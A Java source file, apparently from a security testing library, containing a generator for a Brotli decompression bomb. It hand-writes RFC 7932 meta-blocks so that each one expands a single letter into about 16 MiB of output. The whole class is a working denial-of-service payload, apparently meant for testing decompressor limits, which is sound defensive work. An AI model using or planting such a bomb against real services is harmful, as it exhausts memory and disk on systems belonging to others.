package dev.remora.lab.hostile.payload;

import java.io.ByteArrayOutputStream;

/// A Brotli stream with an extreme expansion (RFC 7932): each of its meta-blocks writes one letter and copies
/// it over the next 16 MiB.
public final class BrotliBomb {
    private static final int BLOCK = 1 << 24;

    /// Insert one literal, copy by the longest length code (section 5).
    private static final int INSERT_AND_COPY = 399;

    /// Minimum length of the longest length code.
    private static final int LONGEST_COPY = 2118;

    /// A distance of one, by one extra bit (section 4).
    private static final int DISTANCE_ONE = 16;

    private final ByteArrayOutputStream out = new ByteArrayOutputStream();
    private int pending;
    private int bits;

    private BrotliBomb() {}

    /// Returns a stream of a multiple of 16 MiB.
    public static byte[] of(int blocks) {
        BrotliBomb stream = new BrotliBomb();
        stream.put(0, 1); // a window of 16 bits
        for (int i = 0; i < blocks; i++) {
            stream.block();
        }
        stream.put(3, 2); // the last, and empty
        stream.put(0, 7);
        return stream.out.toByteArray();
    }

    private void block() {
        put(0, 1); // not the last
        put(2, 2); // its length has six nibbles
        put(BLOCK - 1, 24);
        put(0, 1); // compressed
        put(0, 3); // one block type of literals, of commands, of distances
        put(0, 6); // no postfix, no direct distances
        put(0, 2); // context mode
        put(0, 2); // one tree of literals, one of distances
        symbol('a', 8);
        symbol(INSERT_AND_COPY, 10);
        symbol(DISTANCE_ONE, 6);
        put(BLOCK - 1 - LONGEST_COPY, 24);
        put(0, 1); // the distance's extra bit
    }

    /// Writes a prefix code of a single symbol, which takes no bits from here on.
    private void symbol(int symbol, int width) {
        put(1, 2);
        put(0, 2);
        put(symbol, width);
    }

    private void put(int value, int width) {
        for (int i = 0; i < width; i++) {
            pending |= (value >>> i & 1) << bits;
            if (++bits == 8) {
                out.write(pending);
                pending = 0;
                bits = 0;
            }
        }
    }
}
